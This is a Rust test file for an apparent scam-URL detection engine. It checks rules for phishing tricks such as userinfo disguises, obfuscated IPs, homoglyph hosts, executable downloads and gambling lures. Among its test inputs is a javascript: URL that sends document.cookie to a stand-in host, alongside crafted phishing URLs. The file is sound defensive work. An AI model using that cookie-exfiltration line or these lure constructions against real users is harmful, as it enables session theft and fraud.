@@ -1,0 +1,396 @@
+//! Scam-pattern rules: each rule fires on a clear case and stays quiet on a near miss.
+//! The rules section is compiled from the bundled `data/rules/*.tsv`, hosts and registrable
+//! domains come from the real URL and PSL modules, so these tests see what the engine sees.
+#![cfg(feature = "builder")]
+#![allow(clippy::panic, clippy::unwrap_used)]
+
+use std::sync::OnceLock;
+use waspada_core::domain::{psl_section, to_unicode, Psl};
+use waspada_core::format::{Envelope, EnvelopeWriter};
+use waspada_core::rules::{self, RuleInput, Rules};
+use waspada_core::Reason;
+
+struct Data {
+    bytes: Vec<u8>,
+}
+
+fn data() -> &'static Data {
+    static DATA: OnceLock<Data> = OnceLock::new();
+    DATA.get_or_init(|| {
+        let mut w = EnvelopeWriter::new("test", 20260101);
+        let psl = psl_section(include_str!("../data/public_suffix_list.dat")).expect("psl");
+        w.add_section(waspada_core::domain::PSL_TAG, psl);
+        for (tag, body) in rules::sections().expect("rules compile") {
+            w.add_section(tag, body);
+        }
+        Data { bytes: w.finish() }
+    })
+}
+
+/// The reasons the rules give for `input`.
+fn check(input: &str) -> Vec<Reason> {
+    let bytes = &data().bytes;
+    let env = Envelope::parse(bytes).expect("envelope");
+    let rules = Rules::from_envelope(&env, bytes).expect("rules section");
+    rules.validate().expect("rules valid");
+    let psl_range = env
+        .section(waspada_core::domain::PSL_TAG)
+        .expect("psl section");
+    let psl = Psl::new(&bytes[psl_range]).expect("psl view");
+    let scheme = waspada_core::url::scheme_of(input).unwrap_or_else(|| "http".into());
+    if scheme != "http" && scheme != "https" {
+        return rules.evaluate_input(&RuleInput {
+            input,
+            scheme: &scheme,
+            ..RuleInput::default()
+        });
+    }
+    let canon = waspada_core::url::canonicalize(input).expect("canonical");
+    let host = canon.host.as_str();
+    let unicode = to_unicode(host);
+    let input = RuleInput {
+        input,
+        scheme: &canon.scheme,
+        host,
+        host_unicode: &unicode,
+        registrable_domain: psl.registrable_domain(host),
+        public_suffix: psl.public_suffix(host),
+        private_suffix: psl.is_private_suffix(host),
+    };
+    rules.evaluate_input(&input)
+}
+
+fn codes(input: &str) -> Vec<String> {
+    check(input).into_iter().map(|r| r.code).collect()
+}
+
+fn has(input: &str, code: &str) -> bool {
+    codes(input).iter().any(|c| c == code)
+}
+
+fn reason(input: &str, code: &str) -> Reason {
+    check(input)
+        .into_iter()
+        .find(|r| r.code == code)
+        .unwrap_or_else(|| panic!("{input}: no {code} in {:?}", codes(input)))
+}
+
+fn total(input: &str) -> u32 {
+    check(input).iter().map(|r| u32::from(r.score)).sum()
+}
+
+fn quiet(input: &str) {
+    let r = check(input);
+    assert!(r.is_empty(), "{input}: expected no reason, got {r:?}");
+}
+
+#[test]
+fn userinfo_disguised_as_a_domain() {
+    let r = reason("https://bca.co.id@evil.top/", "url.userinfo");
+    assert_eq!(r.params["userinfo"], "bca.co.id");
+    assert_eq!(r.params["host"], "evil.top");
+    assert!(
+        r.score >= 50,
+        "a domain before @ alone must reach dangerous territory: {r:?}"
+    );
+    // Without a scheme, and with a password, it is the same trick.
+    assert!(reason("klikbca.com:login@203.0.113.9/", "url.userinfo").score >= 50);
+    // Plain credentials are only a hint.
+    let plain = reason("https://user:pw@example.com/", "url.userinfo");
+    assert!(plain.score < 30, "{plain:?}");
+    // Near miss: an @ in the path is not userinfo.
+    assert!(!has("https://medium.com/@someone/post", "url.userinfo"));
+}
+
+#[test]
+fn ip_literal_in_every_notation() {
+    let dotted = reason("http://203.0.113.7/login.php", "host.ip_literal");
+    assert_eq!(dotted.params["notation"], "dotted");
+    for obfuscated in [
+        "http://3405803783/",
+        "http://0xCB007107/",
+        "http://0313.0.0161.07/",
+        "http://203.28935/",
+        "http://0xcb.0x00.0x71.0x07/",
+    ] {
+        let r = reason(obfuscated, "host.ip_literal");
+        assert_eq!(r.params["notation"], "obfuscated", "{obfuscated}");
+        assert_eq!(r.params["ip"], "203.0.113.7", "{obfuscated}");
+        assert!(r.score > dotted.score);
+    }
+    assert_eq!(
+        reason("http://[2001:db8::1]/", "host.ip_literal").params["notation"],
+        "ipv6"
+    );
+    // Near misses: the router at home and local development are not scams.
+    quiet("http://192.168.1.1/");
+    quiet("http://127.0.0.1:8080/");
+    quiet("http://[::1]/");
+    assert!(!has("https://1.2.3.example.com/", "host.ip_literal"));
+}
+
+#[test]
+fn scripts_in_internationalised_hosts() {
+    // Latin with Cyrillic "а" in one label.
+    let r = reason("https://p\u{0430}ypal.com/", "host.mixed_script");
+    assert_eq!(r.params["level"], "minimal");
+    // A technical letter no language writes domains in (U+0261 LATIN SMALL LETTER SCRIPT G).
+    assert!(has("https://\u{0261}oogle.com/", "host.restricted_chars"));
+    // Single-script IDNs are only a small hint; a Japanese name mixing Han and Kana is normal.
+    assert!(reason("https://m\u{00fc}nchen.de/", "host.punycode").score < 15);
+    let jp = check("https://\u{65e5}\u{672c}\u{8a9e}\u{306e}\u{30b5}\u{30a4}\u{30c8}.jp/");
+    assert!(jp.iter().all(|r| r.code == "host.punycode"), "{jp:?}");
+    quiet("https://example.com/");
+}
+
+#[test]
+fn abused_tlds_add_points_but_never_flag_alone() {
+    let r = reason("https://some-shop.top/", "tld.abused");
+    assert_eq!(r.params["tld"], "top");
+    assert!(r.score > 0 && r.score < 30);
+    assert!(has("https://toko-murah.my.id/", "tld.abused"));
+    quiet("https://tokopedia.com/");
+    // A private suffix under .app is not the .app TLD's fault, nor is `top` as a label.
+    assert!(!has("https://top.example.com/", "tld.abused"));
+}
+
+#[test]
+fn shorteners_hide_the_destination() {
+    assert_eq!(
+        reason("https://bit.ly/3xYz", "url.shortener").params["shortener"],
+        "bit.ly"
+    );
+    assert!(has("s.id/bansos2024", "url.shortener"));
+    // The shortener's home page hides nothing.
+    assert!(!has("https://bit.ly/", "url.shortener"));
+    assert!(!has("https://bitly.example.com/3xYz", "url.shortener"));
+}
+
+#[test]
+fn free_hosting_subdomains() {
+    let r = reason("https://bca-mobile-login.pages.dev/", "hosting.free");
+    assert_eq!(r.params["suffix"], "pages.dev");
+    assert!(r.score < 30, "hosting alone never flags: {r:?}");
+    // Carrying lure words, it adds up.
+    assert!(total("https://pendaftaran-bansos.vercel.app/") >= 30);
+    // The hosting provider's own site is not a user's page.
+    assert!(!has("https://pages.dev/", "hosting.free"));
+    assert!(!has("https://vercel.com/docs", "hosting.free"));
+}
+
+#[test]
+fn executable_downloads() {
+    let r = reason(
+        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
+        "download.executable",
+    );
+    assert_eq!(r.params["ext"], "apk");
+    assert_eq!(r.params["file"], "Undangan Pernikahan Digital.apk");
+    // The lure words in the file name add to it.
+    assert!(has(
+        "https://files.example.net/Undangan%20Pernikahan%20Digital.apk",
+        "keyword.lure"
+    ));
+    assert!(has(
+        "http://203.0.113.5/Surat-Tilang.APK?x=1",
+        "download.executable"
+    ));
+    let scr = reason("https://example.net/photo.scr", "download.executable");
+    assert!(
+        scr.score > r.score,
+        "a screensaver download is worse than an apk"
+    );
+    assert!(has("https://example.net/setup.exe", "download.executable"));
+    // Near misses: a page about APKs, an .apk in the query, a domain as the last path segment.
+    quiet("https://example.net/apk-guide");
+    quiet("https://example.net/download?file=readme.txt");
+    assert!(!has(
+        "https://example.net/go/example.com",
+        "download.executable"
+    ));
+    assert!(!has(
+        "https://example.net/blog/my.apkblog",
+        "download.executable"
+    ));
+}
+
+#[test]
+fn piles_of_subdomains_hyphens_and_digits() {
+    let deep = reason(
+        "https://login.secure.account.update.verify.bank.example.com/",
+        "host.many_subdomains",
+    );
+    assert_eq!(deep.params["count"], "6");
+    assert!(!has(
+        "https://www.mail.example.co.uk/",
+        "host.many_subdomains"
+    ));
+    let h = reason(
+        "https://bca-konfirmasi-tarif-baru-2024.com/",
+        "host.many_hyphens",
+    );
+    assert_eq!(h.params["count"], "4");
+    assert!(!has("https://my-little-pony.com/", "host.many_hyphens"));
+    assert!(has("https://8724319-coinbase.com/", "host.many_digits"));
+    // Near misses: a year or a short number in a name.
+    assert!(!has("https://pemilu2024.com/", "host.many_digits"));
+    assert!(!has("https://web3.com/", "host.many_digits"));
+}
+
+#[test]
+fn odd_ports() {
+    assert_eq!(
+        reason("http://example.com:2083/login", "url.odd_port").params["port"],
+        "2083"
+    );
+    quiet("https://example.com:443/");
+    quiet("http://example.com:8080/");
+}
+
+#[test]
+fn lure_words_respect_word_boundaries() {
+    let r = reason("https://cek-bansos-kemensos.com/", "keyword.lure");
+    assert!(r.params["keywords"].contains("bansos"));
+    assert_eq!(r.params["where"], "host");
+    assert!(
+        reason("https://example.com/verifikasi/akun", "keyword.lure").params["where"] == "path"
+    );
+    // English kit words.
+    assert!(has(
+        "https://secure-login-update.example.net/",
+        "keyword.lure"
+    ));
+    // Near misses: `login` inside another word, `resi` inside `residence`, `secure` inside `insecure`.
+    assert!(!has("https://bloginfo.example.com/", "keyword.lure"));
+    assert!(!has("https://residence.example.com/", "keyword.lure"));
+    assert!(!has("https://insecureweb.example.com/", "keyword.lure"));
+    // The public suffix is not part of the words (`.co.id` never matches anything).
+    quiet("https://bisnis.co.id/");
+}
+
+#[test]
+fn gambling_words_respect_word_boundaries() {
+    let r = reason("https://slotgacor88.com/", "keyword.gambling");
+    assert_eq!(r.params["category"], "gambling");
+    assert!(
+        r.score >= 30,
+        "an unmistakable gambling host is flagged: {r:?}"
+    );
+    for host in [
+        "https://togelhoki.net/",
+        "https://agenjudibola.info/",
+        "https://bet365-id.com/",
+        "https://jendelatoto.pics/",
+    ] {
+        assert!(has(host, "keyword.gambling"), "{host}");
+    }
+    // Near misses: sloth, alphabet, better, judicial, Judith, a toto inside another word.
+    for host in [
+        "https://slothsanctuary.org/",
+        "https://alphabet.com/",
+        "https://betterhelp.com/",
+        "https://judicial.example.gov/",
+        "https://judith-smith.com/",
+        "https://phototours.example/",
+    ] {
+        assert!(!has(host, "keyword.gambling"), "{host}: {:?}", check(host));
+    }
+    // A gambling page injected into a path counts too, for less.
+    let p = reason(
+        "https://dinas.example.go.id/wp-content/slot-gacor-maxwin/",
+        "keyword.gambling",
+    );
+    assert_eq!(p.params["where"], "path");
+}
+
+#[test]
+fn data_and_javascript_navigations() {
+    let d = reason("data:text/html;base64,PHNjcmlwdD4=", "scheme.data");
+    assert_eq!(d.params["mime"], "text/html");
+    assert!(d.score >= 60);
+    let img = reason("data:image/png;base64,iVBORw0KGgo=", "scheme.data");
+    assert!(img.score < 30);
+    assert!(
+        reason(
+            "javascript:fetch('//x.top/'+document.cookie)",
+            "scheme.javascript"
+        )
+        .score
+            >= 60
+    );
+    // Other schemes are not the rules' business.
+    quiet("mailto:someone@example.com");
+}
+
+#[test]
+fn ordinary_sites_are_quiet() {
+    for u in [
+        "https://www.google.com/search?q=cuaca",
+        "https://www.bca.co.id/id/individu",
+        "https://www.tokopedia.com/",
+        "https://id.wikipedia.org/wiki/Indonesia",
+        "https://github.com/rust-lang/rust",
+        "https://www.kemensos.go.id/",
+    ] {
+        quiet(u);
+    }
+}
+
+#[test]
+fn every_weight_and_table_is_compiled() {
+    let bytes = &data().bytes;
+    let env = Envelope::parse(bytes).unwrap();
+    let rules = Rules::from_envelope(&env, bytes).unwrap();
+    let [weights, tlds, shorteners, hosting, keywords] = rules.counts();
+    assert_eq!(weights, rules::WEIGHT_KEYS.len());
+    assert!(tlds > 40 && shorteners > 1000 && hosting > 3000 && keywords > 80);
+    assert!(rules.is_shortener("bit.ly"));
+    assert_eq!(
+        rules.hosting_points("pages.dev"),
+        Some(rules.weight("hosting.free_max"))
+    );
+}
+
+#[test]
+fn corrupt_sections_are_typed_errors() {
+    let bytes = &data().bytes;
+    let env = Envelope::parse(bytes).unwrap();
+    let range = env.section(rules::RULES_TAG).unwrap();
+    let section = &bytes[range];
+    // Every truncation is refused or, if it still parses, validates or fails cleanly; never panics.
+    for n in (0..section.len()).step_by(97) {
+        if let Ok(r) = Rules::from_section(&section[..n]) {
+            let _ = r.validate();
+        }
+    }
+    let mut bad = section.to_vec();
+    bad[0] = 9;
+    assert!(Rules::from_section(&bad).is_err());
+    // Flipped bytes anywhere: errors or reasons, no panic.
+    for i in (0..section.len()).step_by(211) {
+        let mut b = section.to_vec();
+        b[i] ^= 0x5a;
+        if let Ok(r) = Rules::from_section(&b) {
+            let _ = r.validate();
+            let _ = r.evaluate_input(&RuleInput {
+                input: "https://slot-login.top:81/a.apk",
+                scheme: "https",
+                host: "slot-login.top",
+                host_unicode: "slot-login.top",
+                registrable_domain: Some("slot-login.top"),
+                public_suffix: Some("top"),
+                private_suffix: false,
+            });
+        }
+    }
+    // A build with a broken data line names the file and line.
+    let err = rules::sections_from_texts(&rules::RuleTexts {
+        weights: "url.userinfo\tmany\n",
+        abused_tlds: "",
+        url_shorteners: "",
+        hosting_suffixes: "",
+        keywords: "",
+    })
+    .unwrap_err();
+    assert!(err.contains("weights.tsv:1"), "{err}");
+}
